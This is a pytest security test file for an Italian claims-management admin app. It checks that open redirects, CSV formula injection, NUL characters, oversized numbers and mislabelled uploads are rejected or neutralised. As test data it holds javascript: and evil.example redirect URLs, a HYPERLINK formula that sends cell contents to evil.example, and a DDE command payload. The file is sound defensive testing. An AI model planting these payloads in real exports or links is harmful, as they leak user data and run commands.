"""What an attacker sends gets a clear refusal, never a 500: return addresses, junk ids and
numbers, formulas in exports, NUL characters, and file names that lie about their type."""
from __future__ import annotations

import base64
import csv
import io
import re

import pytest

from models import Attachment, BulkJob, Claim, ClaimStatus, Payment, Role

from .conftest import csrf_token, login
from .test_intake import PASSWORD, PNG, payload, post, shop  # noqa: F401 - fixture
from .test_workflows import TODAY, claim_in, desk  # noqa: F401 - fixture

PDF = b"%PDF-1.4 documento di prova"
HUGE = "99999999999999999999"
BEYOND_INT32 = "2147483648"


# ---- 8. return addresses -------------------------------------------------------------

@pytest.mark.parametrize("url", [
    "javascript:alert(document.cookie)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "https://evil.example/admin/claim/",
    "//evil.example/admin/claim/",
    "/\\evil.example/admin/claim/",
    "\\\\evil.example",
])
def test_the_bulk_progress_page_links_back_only_within_the_site(client, desk, url):
    manager = desk.users[Role.ASP_MANAGER]
    job = BulkJob.create(user=manager, event="validate", claim_ids="[]", total=0, status="done")
    login(client, manager)
    page = client.get(f"/admin/claim/bulk/{job.id}", query_string={"url": url}).get_data(as_text=True)
    back = re.search(r'href="([^"]*)">Torna alle pratiche', page).group(1)
    assert back == "/admin/claim/"


def test_the_bulk_progress_page_keeps_a_return_address_of_this_site(client, desk):
    manager = desk.users[Role.ASP_MANAGER]
    job = BulkJob.create(user=manager, event="validate", claim_ids="[]", total=0, status="done")
    login(client, manager)
    page = client.get(f"/admin/claim/bulk/{job.id}", query_string={"url": "/admin/claim/?flt0_0=validated"})
    assert 'href="/admin/claim/?flt0_0=validated">Torna alle pratiche' in page.get_data(as_text=True)


@pytest.mark.parametrize("target", ["/\\evil.example/", "/\t/evil.example/", "https://evil.example/"])
def test_login_never_sends_the_user_to_another_site(client, f, target):
    user = f.user(Role.ADMIN)
    response = client.post("/login", query_string={"next": target}, data={
        "login": user.login, "password": f.PASSWORD, "csrf_token": csrf_token(client)})
    assert response.status_code == 302
    assert response.headers["Location"] == "/admin/"


# ---- 10. formulas in CSV exports -----------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"Apri")', "+39 333 1234567", "-2+3", "@SUM(A1)",
            "\tcmd", "\rcmd"]


def export_rows(client, path):
    response = client.get(path)
    assert response.status_code == 200
    text = response.get_data().decode("utf-8-sig")  # exports start with a BOM and split on ';' (Italian Excel)
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_the_claims_export_neutralises_formulas(client, desk):
    claims = [desk.f.claim(desk.repairer, desk.centre, customer_name=text) for text in FORMULAS]
    plain = desk.f.claim(desk.repairer, desk.centre, customer_name="Mario Rossi")
    login(client, desk.users[Role.ASP_MANAGER])
    rows = export_rows(client, "/admin/claim/export/csv/")
    column = rows[0].index("Cliente")
    names = {row[0]: row[column] for row in rows[1:]}
    for claim, text in zip(claims, FORMULAS):
        assert names[claim.number] == "'" + text
    assert names[plain.number] == "Mario Rossi"
    days = rows[0].index("Giorni nello stato")
    assert all(row[days].isdigit() for row in rows[1:])  # numbers stay numbers


def test_the_repairers_export_neutralises_formulas(client, f):
    f.repairer(name="=cmd|' /C calc'!A0")
    f.repairer(name="Carrozzeria Onesta")
    login(client, f.user(Role.ADMIN))
    rows = export_rows(client, "/admin/repairer/export/csv/")
    names = {row[rows[0].index("Ragione sociale")] for row in rows[1:]}
    assert names == {"'=cmd|' /C calc'!A0", "Carrozzeria Onesta"}


# ---- 13. a download is named after what it is ------------------------------------------

@pytest.mark.parametrize("sent, data, served, content_type", [
    ("poly.html", PDF, "poly.pdf", "application/pdf"),
    ("foto.PNG", PNG, "foto.PNG", "image/png"),
    ("scan", PDF, "scan.pdf", "application/pdf"),
])
def test_an_upload_is_stored_and_served_with_the_extension_of_its_type(client, shop, f, sent, data, served,
                                                                        content_type):
    body = payload(shop[0])
    body["attachments"] = [{"type": "foto", "filename": sent, "content_base64": base64.b64encode(data).decode()}]
    claim = Claim.get(Claim.number == post(client, body).json["number"])
    attachment = claim.attachments.get()
    assert attachment.original_name == served
    login(client, f.user(Role.ADMIN))
    response = client.get(f"/admin/claim/attachment/{attachment.id}")
    assert response.status_code == 200 and response.data == data
    assert response.headers["Content-Disposition"] == f"attachment; filename={served}"
    assert response.headers["Content-Type"] == content_type
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_a_document_stored_before_keeps_its_name_but_downloads_as_its_type(client, desk):
    claim = desk.f.claim(desk.repairer, desk.centre)
    from workflows.attachments import store_attachment
    doc = store_attachment(claim, "denuncia", "polizza.html", PDF, storage_dir=desk.app.config["STORAGE_DIR"])
    Attachment.update(original_name="polizza.html").where(Attachment.id == doc.id).execute()  # as stored before
    login(client, desk.users[Role.ASP_MANAGER])
    response = client.get(f"/admin/claim/attachment/{doc.id}")
    assert response.headers["Content-Disposition"] == "attachment; filename=polizza.pdf"


# ---- 14. NUL characters --------------------------------------------------------------

@pytest.mark.parametrize("where", [
    ("customer", "name"), ("accident", "place"), ("accident.vehicle_a", "driver"), ("", "wincar_ref")])
def test_the_api_refuses_a_nul_character_naming_the_field(client, shop, where):
    body = payload(shop[0])
    section = body
    for part in filter(None, where[0].split(".")):
        section = section[part]
    section[where[1]] = "Mario\x00Rossi"
    response = post(client, body)
    assert response.status_code == 422
    assert response.mimetype == "application/problem+json"
    field = ".".join(filter(None, (*where[0].split("."), where[1])))
    assert {"field": field, "message": "il testo contiene un carattere NUL (\\u0000) non ammesso"} \
        in response.json["errors"]
    assert Claim.select().count() == 0


def test_the_api_refuses_a_nul_character_in_a_file_name(client, shop):
    body = payload(shop[0])
    body["attachments"][0]["filename"] = "denuncia\x00.html"
    response = post(client, body)
    assert response.status_code == 422
    assert response.json["errors"][0]["field"] == "attachments.0.filename"


NUL_REFUSED = "Il testo inviato contiene un carattere non ammesso (NUL)"


@pytest.mark.parametrize("path, query", [
    ("/admin/claim/", {"search": "AB\x00123"}),
    ("/admin/claim/", {"flt0_0": "validated\x00"}),
    ("/admin/claim/", {"flt0_5": "2026-01-01\x00 to 2026-02-01"}),
    ("/admin/lawyer/", {"search": "\x00"}),
])
def test_a_nul_character_in_a_query_string_is_refused_in_italian(client, desk, path, query):
    login(client, desk.users[Role.ASP_MANAGER])
    response = client.get(path, query_string=query)
    assert response.status_code == 400
    assert NUL_REFUSED in response.get_data(as_text=True)


def test_a_nul_character_in_the_login_form_is_refused(client, f):
    user = f.user(Role.ADMIN)
    response = client.post("/login", data={"login": user.login + "\x00", "password": f.PASSWORD,
                                           "csrf_token": csrf_token(client)})
    assert response.status_code == 400 and NUL_REFUSED in response.get_data(as_text=True)


def test_a_nul_character_in_a_form_is_refused_and_nothing_is_saved(client, desk):
    claim = claim_in(desk, ClaimStatus.VALIDATED)
    login(client, desk.users[Role.ASP_MANAGER])
    response = client.post(f"/admin/claim/act/{claim.id}/drop", data={
        "csrf_token": csrf_token(client, "/admin/claim/"), "version": claim.version,
        "reason": "other", "note": "ritirata\x00"})
    assert response.status_code == 400 and NUL_REFUSED in response.get_data(as_text=True)
    edit = client.post(f"/admin/claim/edit/?id={claim.id}", data={
        "csrf_token": csrf_token(client, "/admin/claim/"), "customer_name": "Mario\x00Rossi"})
    assert edit.status_code == 400
    assert Claim.get_by_id(claim.id).status == ClaimStatus.VALIDATED
    assert "\x00" not in (Claim.get_by_id(claim.id).customer_name or "")


# ---- 11. junk ids, pages and numbers ----------------------------------------------------

def junk_gets(claim, attachment, job):
    """(path, query) pairs that used to reach the database with a number it cannot hold."""
    return [
        ("/admin/claim/", {"page": HUGE}),
        ("/admin/claim/", {"page": "-3"}),
        ("/admin/queue/to-assign/", {"page": HUGE}),
        ("/admin/claim/details/", {"id": HUGE}),
        ("/admin/claim/details/", {"id": BEYOND_INT32}),
        ("/admin/claim/edit/", {"id": HUGE}),
        ("/admin/queue/to-assign/details/", {"id": HUGE}),
        ("/admin/history/details/", {"id": HUGE}),
        ("/admin/lawyer/details/", {"id": HUGE}),
        ("/admin/lawyer/edit/", {"id": HUGE}),
        ("/admin/outbox/details/", {"id": HUGE}),
        (f"/admin/claim/attachment/{HUGE}", {}),
        (f"/admin/claim/attachment/{BEYOND_INT32}", {}),
        (f"/admin/claim/bulk/{HUGE}", {}),
    ]


def test_junk_ids_and_pages_answer_404_in_italian(client, desk):
    claim = claim_in(desk, ClaimStatus.VALIDATED)
    login(client, desk.users[Role.ASP_MANAGER])
    for path, query in junk_gets(claim, None, None):
        response = client.get(path, query_string=query)
        assert response.status_code == 404, (path, query, response.status_code)
        text = response.get_data(as_text=True)
        assert "Pagina non trovata" in text, (path, query)


def test_a_junk_filter_value_is_ignored_not_a_500(client, desk):
    claim = claim_in(desk, ClaimStatus.VALIDATED)
    login(client, desk.users[Role.ASP_MANAGER])
    for key, value in (("flt0_1", HUGE), ("flt0_1", "abc"), ("flt0_1", "-1"), ("flt0_5", "2026-01-01 to 9999-12-31"),
                       ("flt0_5", f"{HUGE} to {HUGE}")):
        response = client.get("/admin/claim/", query_string={key: value})
        assert response.status_code == 200
        assert claim.number in response.get_data(as_text=True)  # the filter is not applied


def test_junk_row_ids_in_an_action_answer_400(client, desk):
    claim = claim_in(desk, ClaimStatus.VALIDATED)
    login(client, desk.users[Role.ASP_MANAGER])
    for rowid in ("abc", HUGE, "-1", "1.5", ""):
        response = client.post("/admin/claim/action/", data={
            "csrf_token": csrf_token(client, "/admin/claim/"), "action": "drop", "reason": "no_cover",
            "url": "/admin/claim/", "rowid": [claim.id, rowid]})
        assert response.status_code == 400, rowid
        assert "Le righe scelte non sono valide" in response.get_data(as_text=True)
    login(client, desk.users[Role.ADMIN])
    response = client.post("/admin/repairer/action/", data={
        "csrf_token": csrf_token(client, "/admin/repairer/"), "action": "wincar_credentials",
        "url": "/admin/repairer/", "rowid": HUGE})
    assert response.status_code == 400
    assert Claim.get_by_id(claim.id).status == ClaimStatus.VALIDATED


def test_a_workflow_post_to_a_junk_claim_id_is_404(client, desk):
    login(client, desk.users[Role.ASP_MANAGER])
    response = client.post(f"/admin/claim/act/{HUGE}/validate", data={
        "csrf_token": csrf_token(client, "/admin/claim/")})
    assert response.status_code == 404


@pytest.mark.parametrize("field, value, message", [
    ("version", "abc", "ricarica la pagina"),
    ("payer", "abc", "Compagnia pagatrice sconosciuta."),
    ("payer", HUGE, "Compagnia pagatrice sconosciuta."),
    ("amount", "1e9999", "«1e9999» non è un importo"),
    ("amount", HUGE, "Importo troppo grande: al massimo € 9.999.999.999,99."),
    ("amount", "10000000000", "Importo troppo grande"),
    ("amount", "NaN", "«NaN» non è un importo"),
])
def test_junk_values_in_an_offer_are_refused_in_italian_and_nothing_is_recorded(client, desk, field, value,
                                                                              message):
    claim = claim_in(desk, ClaimStatus.FILED)
    login(client, desk.users[Role.LAWYER])
    data = {"csrf_token": csrf_token(client, "/admin/claim/"), "version": claim.version, "amount": "500,00",
            "on_date": TODAY.isoformat(), "payer": str(desk.insurer.id), field: value}
    response = client.post(f"/admin/claim/act/{claim.id}/record_offer", data=data, follow_redirects=True)
    assert response.status_code == 422  # the form comes back with what was typed
    assert message in response.get_data(as_text=True)
    assert Payment.select().where(Payment.claim == claim.id).count() == 0


@pytest.mark.parametrize("lawyer", ["abc", HUGE, BEYOND_INT32, "-1"])
def test_a_junk_lawyer_id_is_refused_in_italian(client, desk, lawyer):
    claim = claim_in(desk, ClaimStatus.VALIDATED)
    login(client, desk.users[Role.ASP_MANAGER])
    response = client.post(f"/admin/claim/act/{claim.id}/assign", data={
        "csrf_token": csrf_token(client, "/admin/claim/"), "version": claim.version, "lawyer": lawyer},
        follow_redirects=True)
    assert "Scegli il legale a cui affidare la pratica." in response.get_data(as_text=True)
    bulk = client.post("/admin/claim/action/", data={
        "csrf_token": csrf_token(client, "/admin/claim/"), "action": "assign", "url": "/admin/claim/",
        "rowid": claim.id, "lawyer": lawyer}, follow_redirects=True)
    assert bulk.status_code == 200 and "Scegli il legale" in bulk.get_data(as_text=True)
    assert Claim.get_by_id(claim.id).status == ClaimStatus.VALIDATED


def test_the_largest_amount_the_column_holds_is_recorded(client, desk):
    claim = claim_in(desk, ClaimStatus.FILED)
    login(client, desk.users[Role.LAWYER])
    client.post(f"/admin/claim/act/{claim.id}/record_offer", data={
        "csrf_token": csrf_token(client, "/admin/claim/"), "version": claim.version,
        "amount": "9999999999,99", "on_date": TODAY.isoformat()})
    assert str(Payment.get(Payment.claim == claim.id).amount) == "9999999999.99"


def test_the_engine_raises_only_workflow_errors_on_junk(desk):
    from workflows import engine
    from workflows.errors import WorkflowError
    claim = claim_in(desk, ClaimStatus.FILED)
    lawyer = desk.users[Role.LAWYER]
    cases = [{"version": "abc"}, {"version": "1" * 5000}, {"payer": "abc"}, {"payer": HUGE}, {"payer": -1},
             {"amount": "1e9999"}, {"amount": HUGE}, {"amount": "sNaN"}, {"amount": "1e-9999"}]
    for case in cases:
        data = {"amount": "10", "on_date": TODAY, **case}
        version = data.pop("version", None)
        with pytest.raises(WorkflowError):
            engine.apply("record_offer", claim, lawyer, version=version, **data)
            pytest.fail(f"accepted: {case}")
    assert Payment.select().count() == 0


def test_no_route_takes_an_unbounded_integer(app):
    """Every id in a URL goes through the `id` converter, bounded by the id column's range."""
    rules = [rule.rule for rule in app.url_map.iter_rules()]
    assert [r for r in rules if "<int:" in r] == []
    assert len([r for r in rules if "<id:" in r]) >= 3


@pytest.mark.parametrize("user, key, field", [
    ("CARR\x00001", None, "Authorization"), ("CARR001", "chiave\x00", "Idempotency-Key")])
def test_the_api_refuses_a_nul_character_in_the_userid_or_the_key(client, shop, user, key, field):
    headers = {"Idempotency-Key": key} if key else {}
    response = post(client, payload(shop[0]), user=user, headers=headers)
    assert response.status_code == 400 and response.mimetype == "application/problem+json"
    assert response.json["errors"] == [{"field": field, "message": "carattere NUL non ammesso"}]
    assert Claim.select().count() == 0


@pytest.mark.parametrize("field, value, message", [
    ("claimed_amount", HUGE, "Importo troppo grande: al massimo € 9.999.999.999,99."),
    ("estimate_amount", "1e9999", "«1e9999» non è un importo"), ("claimed_amount", "NaN", "«NaN» non è un importo"),
    ("vehicle_count", "99999999999", "Valore troppo grande per questo campo."),
    ("disability_pct", "100000", "Valore troppo grande per questo campo.")])
def test_the_claim_form_refuses_a_number_its_column_cannot_hold(client, f, field, value, message):
    centre, repairer = f.centre(), f.repairer()
    claim = f.claim(repairer, centre, customer_name="Originale")
    login(client, f.user(Role.ADMIN))
    response = client.post(f"/admin/claim/edit/?id={claim.id}", data={
        "csrf_token": csrf_token(client, "/admin/claim/"), "repairer": repairer.id, "asp_centre": centre.id,
        "customer_name": "Nuovo", "vehicle_count": 2, "vehicle_a_country": "I", "vehicle_b_country": "I",
        field: value})
    assert response.status_code == 200  # the form again, with the error on the field
    assert message in response.get_data(as_text=True)
    assert Claim.get_by_id(claim.id).customer_name == "Originale"
